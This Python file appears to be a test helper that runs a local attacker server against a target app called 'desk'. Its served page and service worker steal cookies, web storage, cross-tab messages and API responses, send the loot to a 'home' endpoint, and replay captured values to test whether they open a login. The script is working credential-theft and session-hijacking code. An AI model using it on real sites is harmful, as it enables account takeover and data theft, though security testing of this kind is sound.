"""An attacker's server on this machine: it keeps whatever it is sent, and its pages take what they find."""

from __future__ import annotations

import http.client
import json
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

GRAB = """<!doctype html><p id="log">at work</p><script>
const loot = {};
const take = async (name, run) => { try { loot[name] = await run(); } catch (error) { loot[name] = null; } };
const stored = (store) => Object.entries(store).map(([key, value]) => key + "=" + value).join("\\n");
(async () => {
  await take("cookie", () => document.cookie);
  await take("session", () => stored(sessionStorage));
  await take("local", () => stored(localStorage));
  await take("databases", async () => (await indexedDB.databases()).map(({ name }) => name).join());
  await take("caches", async () => (await caches.keys()).join());
  await take("tabs", () => new Promise((done) => {
    const channel = new BroadcastChannel("handrail.page");
    channel.onmessage = ({ data }) => done(JSON.stringify(data));
    channel.postMessage({ ask: true });
    setTimeout(() => done(""), 700);
  }));
  await take("worker", async () => {
    await navigator.serviceWorker.register("/worker.js", { scope: "/" });
    await navigator.serviceWorker.ready;
    return "registered";
  });
  for (const path of ["/api/desk", "/api/approvals", "/api/login"]) await take("read " + path, async () =>
    (await fetch("__DESK__" + path, { credentials: "include" })).text());
  await take("link", async () => (await fetch("__DESK__/api/login-links", { method: "POST",
    credentials: "include", headers: { "content-type": "application/json" }, body: "{}" })).text());
  await take("socket", () => new Promise((done, fail) => {
    const socket = new WebSocket("__DESK__/ws".replace("http", "ws"));
    socket.onopen = () => socket.send('{"type": "HELLO", "clientId": "x"}');
    socket.onmessage = ({ data }) => done(data);
    socket.onclose = socket.onerror = fail;
  }));
  await fetch("__HOME__/loot", { method: "POST", mode: "no-cors", body: JSON.stringify(loot) });
  document.getElementById("log").textContent = "done";
})();
</script>"""
WORKER = """
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  const told = { url: event.request.url, headers: [...event.request.headers] };
  fetch("__HOME__/loot", { method: "POST", mode: "no-cors", body: JSON.stringify(told) });
  if (event.request.mode === "navigate") event.respondWith(new Response("<p id=log>taken", {
    headers: { "content-type": "text/html" } }));
});
"""


class Thief:
    """Listens on `host`; `desk` is what it is after, and its pages send what they took to `home`."""

    def __init__(self, desk: str, host: str = "127.0.0.1", port: int = 0, home: str = "") -> None:
        self.desk = desk
        self.home = home
        self.loot: list[str] = []
        """Every line of every request, and what its pages sent home."""
        self.grabbed: list[dict[str, Any]] = []
        self.turns_to = "/"
        thief = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                thief.loot += [self.path, *(f"{name}: {value}" for name, value in self.headers.items())]
                thief.answer(self)

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
                thief.loot.append(body)
                if self.path == "/loot":
                    thief.grabbed.append(json.loads(body))
                thief.answer(self)

            def log_message(self, *words: Any) -> None:
                pass

        kind = type("Server", (ThreadingHTTPServer,), {"address_family": _family(host)})
        self._server = kind((host, port), Handler)
        self.port: int = self._server.server_port
        self._thread = Thread(target=self._server.serve_forever, args=(0.02,))
        self._thread.start()

    def answer(self, handler: BaseHTTPRequestHandler) -> None:
        if handler.path == "/turn":
            handler.send_response(302)
            handler.send_header("Location", self.turns_to)
            handler.send_header("Content-Length", "0")
            handler.end_headers()
            return
        is_worker = handler.path.startswith("/worker.js")
        text = WORKER if is_worker else GRAB.replace("__DESK__", self.desk)
        body = text.replace("__HOME__", self.home).encode()
        handler.send_response(200)
        handler.send_header("Content-Type", "text/javascript" if is_worker else "text/html")
        handler.send_header("Service-Worker-Allowed", "/")
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    def close(self) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


def _family(host: str) -> int:
    return socket.AF_INET6 if ":" in host else socket.AF_INET


@contextmanager
def thieving(desk: str, host: str = "127.0.0.1", port: int = 0, home: str = "") -> Iterator[Thief]:
    one = Thief(desk, host, port, home)
    try:
        yield one
    finally:
        one.close()


def opened_by(loot: list[str], port: int) -> list[str]:
    """What of the loot logs anybody in at 127.0.0.1:port, brought in whatever way."""
    words = {word for line in loot for word in _words(line)}
    return [word for word in sorted(words) if any(_lets_in(port, way) for way in _ways(word))]


def _words(line: str) -> set[str]:
    """The line itself and every part of it that could be a secret."""
    parts = "".join(char if char.isalnum() or char in "-_" else " " for char in line).split()
    return {line.partition(": ")[2] or line, *(part for part in parts if len(part) >= 16)}


def _ways(word: str) -> list[dict[str, str]]:
    plain = "".join(char for char in word if " " <= char <= "~")[:4_000]
    return [{"Cookie": plain}, {"Cookie": f"handrail={plain}"}, {"Handrail-Page": plain}]


def _lets_in(port: int, headers: dict[str, str]) -> bool:
    """As a program that pretends to be the page. Not as a bearer: whoever guesses often has to wait."""
    line = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    try:
        given = {"Origin": f"http://127.0.0.1:{port}", "Content-Type": "application/json", **headers}
        line.request("POST", "/api/login-links", b"{}", given)
        return line.getresponse().status == 200
    finally:
        line.close()
